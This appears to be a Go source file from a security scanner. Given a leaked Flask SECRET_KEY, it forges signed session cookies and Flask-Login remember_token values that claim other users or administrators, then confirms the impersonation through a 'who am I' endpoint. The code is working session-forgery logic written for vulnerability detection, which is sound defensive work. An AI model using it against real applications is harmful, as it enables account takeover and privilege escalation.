package session

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/rampart-sec/rampart"
	"github.com/rampart-sec/rampart/internal/check"
	"github.com/rampart-sec/rampart/internal/engine"
	"github.com/rampart-sec/rampart/internal/flaskkey"
	"github.com/rampart-sec/rampart/internal/flasksession"
	"github.com/rampart-sec/rampart/internal/whoami"
)

// proof is a forged credential the application accepted.
type proof struct {
	what     string // "session cookie" or "Flask-Login remember_token"
	who      whoami.Person
	op       *rampart.Operation
	resp     *engine.Response
	evidence []rampart.Evidence
}

const maxProofEndpoints = 2

// forge signs cookies that claim other identities and looks for a "who am
// I" answer that names them. The claimed identity is an administrator when
// the scan has one (the strongest proof), else a user; without identities
// it guesses user ids 1 and 2 and then needs both to be named, so an
// endpoint that always answers with the same record proves nothing.
func forge(ctx context.Context, p *check.Pass, s *flaskkey.Seen, key []byte) (*proof, error) {
	wr, err := whoami.Learn(ctx, p)
	if err != nil && wr == nil {
		return nil, err
	}
	people := wr.Privileged()
	guessed := false
	if len(people) == 0 {
		people, guessed = whoami.Guesses(), true
	}
	eps := wr.Endpoints
	if len(eps) == 0 {
		eps = whoami.Candidates(p.Surface)
	}
	if len(eps) > maxProofEndpoints {
		eps = eps[:maxProofEndpoints]
	}
	a := people[0]
	var b *whoami.Person
	for i := 1; i < len(people); i++ {
		if people[i].ID != a.ID || people[i].Username != a.Username {
			b = &people[i]
			break
		}
	}
	var tried []*rampart.Operation
	for _, op := range eps {
		u := p.URL(op, nil)
		base, err := p.Get(ctx, nil, u, nil)
		if err != nil {
			if ctx.Err() != nil {
				return nil, ctx.Err()
			}
			continue
		}
		if ok2xx(base) && whoami.Reveals(base.Body, a) {
			continue // it names that user to anyone: no proof possible here
		}
		tried = append(tried, op)
		respA, noteA, err := sendForged(ctx, p, u, s, key, a)
		if err != nil {
			if ctx.Err() != nil {
				return nil, ctx.Err()
			}
			continue
		}
		if !ok2xx(respA) || !whoami.Reveals(respA.Body, a) {
			continue
		}
		pr := &proof{what: "session cookie", who: a, op: op, resp: p.Excerpt(respA), evidence: []rampart.Evidence{
			p.Evidence(base, "without credentials: not "+a.Label()),
			p.Evidence(respA, noteA),
		}}
		if b != nil {
			respB, noteB, err := sendForged(ctx, p, u, s, key, *b)
			switch {
			case err == nil && ok2xx(respB) && whoami.Reveals(respB.Body, *b):
				pr.evidence = append(pr.evidence, p.Evidence(respB, noteB))
			case guessed:
				continue // guessed ids must both be named
			}
		}
		return pr, nil
	}
	// Flask-Login restores a session from its remember_token cookie, which
	// is an HMAC of the user id under the same SECRET_KEY.
	if a.ID == "" {
		return nil, nil
	}
	tok := flasksession.RememberToken(a.ID, key)
	for _, op := range tried {
		resp, err := p.Send(ctx, nil, &engine.Request{
			Method: http.MethodGet, URL: p.URL(op, nil),
			Header: http.Header{"Cookie": {"remember_token=" + tok}},
			Forged: []string{tok},
		})
		if err != nil {
			if ctx.Err() != nil {
				return nil, ctx.Err()
			}
			continue
		}
		if ok2xx(resp) && whoami.Reveals(resp.Body, a) {
			return &proof{what: "Flask-Login remember_token", who: a, op: op, resp: p.Excerpt(resp), evidence: []rampart.Evidence{
				p.Evidence(resp, fmt.Sprintf("forged remember_token=%s|HMAC-SHA512(SECRET_KEY, %q), no session: answered as %s", a.ID, a.ID, a.Label())),
			}}, nil
		}
	}
	return nil, nil
}

func ok2xx(r *engine.Response) bool { return r != nil && r.Status >= 200 && r.Status <= 299 }

func sendForged(ctx context.Context, p *check.Pass, u string, s *flaskkey.Seen, key []byte, who whoami.Person) (*engine.Response, string, error) {
	payload, err := forgedPayload(s.Cookie, who)
	if err != nil {
		return nil, "", err
	}
	value := flasksession.Sign(payload, key, time.Now())
	resp, err := p.Send(ctx, nil, &engine.Request{
		Method: http.MethodGet, URL: u,
		Header: http.Header{"Cookie": {s.Name + "=" + value}},
		Forged: []string{value},
	})
	if err != nil {
		return nil, "", err
	}
	note := fmt.Sprintf("only a forged %s cookie, session %s: answered as %s", s.Name, payload, who.Label())
	return resp, note, nil
}

// Session keys that commonly hold the logged-in user: the Flask tutorial's
// user_id, Flask-Login's _user_id (a string), and common variants.
var idKeys = []string{"user_id", "uid", "userid", "userId", "id"}

// forgedPayload keeps what the application put in the session and claims
// who: the id under the usual keys (in the type the cookie already used),
// Flask-Login's _user_id/_fresh, the username, and a role when the session
// holds one.
func forgedPayload(c *flasksession.Cookie, who whoami.Person) ([]byte, error) {
	fields, err := c.Fields()
	if err != nil {
		return nil, err
	}
	if who.ID != "" {
		for _, k := range idKeys {
			if old, ok := fields[k]; ok && isString(old) {
				fields[k] = flasksession.Raw(who.ID)
			} else {
				fields[k] = flasksession.Raw(who.IDValue())
			}
		}
		fields["_user_id"] = flasksession.Raw(who.ID)
		fields["_fresh"] = flasksession.Raw(true)
	}
	if who.Username != "" {
		fields["username"] = flasksession.Raw(who.Username)
		if old, ok := fields["user"]; ok && isString(old) {
			fields["user"] = flasksession.Raw(who.Username)
		}
	}
	if who.Email != "" {
		if _, ok := fields["email"]; ok {
			fields["email"] = flasksession.Raw(who.Email)
		}
	}
	role := who.APIRole
	if role == "" && who.Role == "admin" {
		role = "admin"
	}
	if role != "" {
		if _, ok := fields["role"]; ok {
			fields["role"] = flasksession.Raw(role)
		}
		if _, ok := fields["is_admin"]; ok {
			fields["is_admin"] = flasksession.Raw(strings.EqualFold(role, "admin"))
		}
	}
	return flasksession.Encode(fields)
}

func isString(raw json.RawMessage) bool {
	return len(raw) > 0 && raw[0] == '"'
}
